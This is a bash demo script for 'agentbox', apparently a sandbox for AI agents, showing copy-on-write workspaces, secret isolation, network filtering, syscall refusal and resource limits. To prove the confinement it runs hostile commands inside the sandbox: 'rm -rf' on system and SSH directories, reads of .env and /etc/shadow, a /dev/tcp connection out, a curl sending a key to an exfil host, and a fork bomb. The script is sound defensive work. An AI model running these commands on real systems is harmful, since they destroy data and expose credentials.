#!/bin/bash
# The main job: a short scripted session that shows what agentbox stops, for real.
set -u
AB=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")
demo=$(mktemp -d /tmp/agentbox-demo.XXXXXX)
trap '"$AB" rm --force bg >/dev/null 2>&1; rm -rf "$demo"' EXIT
# The demo's sandboxes (their changes, snapshots and records) live with the demo and go with it.
export AGENTBOX_DATA_DIR=$demo/state AGENTBOX_RUN_DIR=$demo/run
mkdir -p "$demo/project"
cd "$demo/project"
printf 'print("hello from the project")\n' > app.py
printf 'all:\n\t@echo build ok\n' > Makefile
printf 'DATABASE_PASSWORD=hunter2\n' > .env

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
show() { printf '$ %s\n' "$*"; }

step "What agentbox enforces on this machine"
show "agentbox run --explain"
"$AB" run --explain

step "An agent works on a copy-on-write view of the project"
show "agentbox run --name fix -- sh -c 'id; echo fixed > fix.txt; echo \"# patched\" >> app.py; rm Makefile'"
"$AB" run --name fix -- sh -c 'id; echo fixed > fix.txt; echo "# patched" >> app.py; rm Makefile'
printf 'the real project is untouched: '; ls "$demo/project" | tr '\n' ' '; echo
show "agentbox diff fix --stat"
"$AB" diff fix --stat
show "agentbox diff fix -- app.py"
"$AB" diff fix --color=never -- app.py
show "agentbox apply fix -- fix.txt app.py      (take only these two)"
"$AB" apply fix -- fix.txt app.py
printf 'on the host now: '; ls -l "$demo/project/fix.txt" | cut -d' ' -f1,3,4,9-
show "agentbox discard fix                       (the Makefile deletion is thrown away)"
"$AB" discard fix && printf 'Makefile still there: '; ls "$demo/project/Makefile"

step "A destructive command only hurts the sandbox"
show "agentbox run -- sh -c 'rm -rf /usr/bin /etc ~/.ssh'"
"$AB" run -- sh -c 'rm -rf /usr/bin /etc ~/.ssh 2>&1 | sed "s/.*: //" | sort | uniq -c | sed "s/^ *\([0-9]*\) /rm refused \1 paths: /"'
printf 'on the host, /usr/bin/ls is still there: '; ls -l /usr/bin/ls | cut -c1-60
printf 'and /etc still holds %s entries\n' "$(ls /etc | wc -l)"

step "Secrets stay out: the project's .env, the caller's tokens, keys and home"
show "agentbox run -- cat .env"
"$AB" run -q -- sh -c 'echo ".env inside: [$(cat .env)]"'

export DEMO_GITHUB_TOKEN=ghp_demo_secret_value
show "DEMO_GITHUB_TOKEN=... agentbox run -- sh -c 'echo token=\${DEMO_GITHUB_TOKEN:-<not set>}; ls -A \$HOME; ls /root'"
"$AB" run -- sh -c 'echo "token=${DEMO_GITHUB_TOKEN:-<not set>}"; echo "home ($HOME): [$(ls -A "$HOME")]"; ls /root 2>&1; echo "/etc/shadow: [$(cat /etc/shadow 2>&1)]"'
show "agentbox run -e DEMO_GITHUB_TOKEN -- ...   (passed only when asked)"
"$AB" run -e DEMO_GITHUB_TOKEN -- sh -c 'echo "token=${DEMO_GITHUB_TOKEN:-<not set>}"'

step "No network: only loopback exists, and a connection out fails at once"
show "agentbox run -- bash -c 'list interfaces; echo > /dev/tcp/1.1.1.1/443'"
"$AB" run -- bash -c 'cut -d: -f1 /proc/net/dev | tail -n +3 | sed "s/^ */interface: /"; echo > /dev/tcp/1.1.1.1/443 && echo connected || echo "connection refused by the sandbox"'

step "Only the hosts you allow: a filtering proxy, DNS answered by agentbox, every decision logged"
mkdir -p "$demo/www" && echo "hello from api.example.test" > "$demo/www/index.html"
python3 -u -m http.server --bind 127.0.0.1 --directory "$demo/www" 0 >"$demo/www.log" 2>&1 &
www_pid=$!
for _ in $(seq 50); do grep -q "port" "$demo/www.log" 2>/dev/null && break; sleep 0.1; done
port=$(sed -n 's/.* port \([0-9]*\).*/\1/p' "$demo/www.log" | head -1)
show "agentbox run --name net --allow api.example.test --add-host api.example.test:127.0.0.1 --allow 127.0.0.1:$port -- sh -c '...'"
"$AB" run -q --workspace-mode ro --name net --allow api.example.test --add-host api.example.test:127.0.0.1 \
	--allow "127.0.0.1:$port" -- sh -c "
	echo \"allowed, through HTTP_PROXY: \$(curl -sS http://api.example.test:$port/)\"
	echo \"denied:                     \$(curl -sS http://exfil.example.org/?key=secret)\"
	echo \"DNS for a denied name:      \$(getent hosts exfil.example.org || echo NXDOMAIN)\"
	echo \"a client that ignores the proxy variables: \$(curl -sS --noproxy '*' http://api.example.test:$port/)\"
	echo \"the same client, denied:    \$(curl -sS --noproxy '*' http://exfil.example.org/ 2>&1)\""
show "agentbox net log net"
"$AB" net log net
kill "$www_pid" 2>/dev/null

step "Dangerous system calls are refused"
show "agentbox run -- sh -c 'unshare -U true; mount -t tmpfs x /tmp'"
"$AB" run -- sh -c 'unshare -U true; mount -t tmpfs x /tmp 2>&1; grep -E "^(CapEff|NoNewPrivs|Seccomp):" /proc/self/status'

step "An agent in the background: limits, a live terminal, exec, stop"
show "agentbox run -d --name bg --memory 256m --pids-limit 64 --timeout 1m -- sh -c 'while :; do date +tick-%s; sleep 1; done'"
"$AB" run -d -q --name bg --memory 256m --pids-limit 64 --timeout 1m -- sh -c 'while :; do date +tick-%s; sleep 1; done'
sleep 2.2
show "agentbox ps"
"$AB" ps
show "agentbox logs bg"
"$AB" logs bg | tr -d '\r' | tail -n 2
show "agentbox exec bg -- sh -c 'id -un; grep -E \"^(CapEff|Seccomp)\" /proc/self/status'   (as confined as bg itself)"
"$AB" exec bg -- sh -c 'id -un; grep -E "^(CapEff|Seccomp)" /proc/self/status'
show "agentbox exec bg -- dd if=/dev/zero of=/dev/null bs=512M count=1   (more than --memory)"
"$AB" exec bg -- dd if=/dev/zero of=/dev/null bs=512M count=1 >/dev/null 2>&1
rc=$?
echo "exit status: $rc$([ "$rc" = 137 ] && echo ' (SIGKILL: the kernel stopped it at the memory limit)')"
show "agentbox run --pids-limit 64 --timeout 3s -- sh -c 'b() { b | b & }; b; sleep 30'   (a fork bomb)"
start=$(date +%s%N)
"$AB" run -q --pids-limit 64 --timeout 3s -- sh -c 'b() { b | b & }; b 2>/dev/null; sleep 30' 2>&1 | tail -n 1
printf 'it could not grow past --pids-limit 64, and ended after %d ms, at its timeout\n' $((($(date +%s%N) - start) / 1000000))
show "agentbox stop bg; agentbox ps --all"
"$AB" stop -t 1 bg >/dev/null
"$AB" ps --all
"$AB" rm bg >/dev/null

step "Exit status passes through"
show "agentbox run -- sh -c 'exit 3'"
"$AB" run -- sh -c 'exit 3'; echo "exit status: $?"

step "The real project holds only what was applied"
ls -l "$demo/project"
